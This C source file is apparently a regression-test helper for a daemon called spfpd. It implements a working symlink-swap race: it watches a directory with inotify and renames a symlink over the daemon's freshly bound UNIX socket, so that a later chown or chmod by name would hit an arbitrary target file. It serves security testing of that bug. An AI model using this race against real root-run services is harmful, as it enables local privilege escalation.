/*
 * sockrace - the attacker of issue 12: swap a symlink in for spfpd's
 * UNIX socket file right after bind(), before spfpd sets its owner.
 *
 *     sockrace DIR NAME TARGET [TIMEOUT_MS]
 *
 * Run as the unprivileged user who owns DIR (Postfix's private/ belongs to
 * postfix; tests/sockrace.py makes one owned by nobody).  It puts a
 * symlink DIR/.sockrace-link -> TARGET, watches DIR with inotify, prints
 * "ready" and, as soon as DIR/NAME is created, renames the symlink over
 * it: a spfpd that then changed owner or mode by name would change TARGET.
 * It spins on a non-blocking inotify descriptor rather than sleeping in
 * read(), to lose as little time as it can.
 *
 * Its last line says what happened:
 *     swapped early    the symlink replaced the socket while the socket
 *                      still belonged to root: before any chown
 *     swapped late     ... after the socket had been chowned already
 *     missed ERROR     the socket appeared but the rename failed
 *     timeout          no socket appeared within TIMEOUT_MS (default 5000)
 * Exit status 0 for those, 2 for a usage or setup error.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define LINK_NAME ".sockrace-link"

static double
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

int
main(int argc, char **argv)
{
	char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
	const struct inotify_event *ev;
	const char *dir, *name, *target;
	double deadline;
	struct stat st;
	ssize_t n;
	char *p;
	int dfd, in, sfd;

	if (argc < 4 || argc > 5) {
		fprintf(stderr, "usage: sockrace DIR NAME TARGET [TIMEOUT_MS]\n");
		return 2;
	}
	dir = argv[1];
	name = argv[2];
	target = argv[3];
	deadline = now_ms() + (argc == 5 ? atof(argv[4]) : 5000.0);
	if ((dfd = open(dir, O_DIRECTORY | O_RDONLY | O_CLOEXEC)) < 0) {
		fprintf(stderr, "sockrace: %s: %s\n", dir, strerror(errno));
		return 2;
	}
	unlinkat(dfd, LINK_NAME, 0);
	if (symlinkat(target, dfd, LINK_NAME) < 0) {
		fprintf(stderr, "sockrace: symlink %s/%s: %s\n", dir,
		    LINK_NAME, strerror(errno));
		return 2;
	}
	if ((in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) < 0 ||
	    inotify_add_watch(in, dir, IN_CREATE) < 0) {
		fprintf(stderr, "sockrace: inotify %s: %s\n", dir,
		    strerror(errno));
		return 2;
	}
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		n = read(in, buf, sizeof(buf));
		if (n < 0) {
			if (errno != EAGAIN && errno != EINTR) {
				fprintf(stderr, "sockrace: read: %s\n",
				    strerror(errno));
				return 2;
			}
			if (now_ms() > deadline) {
				printf("timeout\n");
				return 0;
			}
			continue;
		}
		for (p = buf; p < buf + n; p += sizeof(*ev) + ev->len) {
			ev = (const struct inotify_event *)p;
			if (ev->len == 0 || strcmp(ev->name, name) != 0)
				continue;
			/*
			 * Hold the socket file first (O_PATH needs no
			 * permission on it), so that afterwards we can tell
			 * whether it had been chowned when it was replaced.
			 */
			sfd = openat(dfd, name, O_PATH | O_NOFOLLOW | O_CLOEXEC);
			if (renameat(dfd, LINK_NAME, dfd, name) < 0) {
				printf("missed %s\n", strerror(errno));
				return 0;
			}
			/* the owner only ever goes from 0 to socket_owner */
			if (sfd >= 0 && fstat(sfd, &st) == 0 && st.st_uid == 0)
				printf("swapped early\n");
			else
				printf("swapped late\n");
			return 0;
		}
	}
}
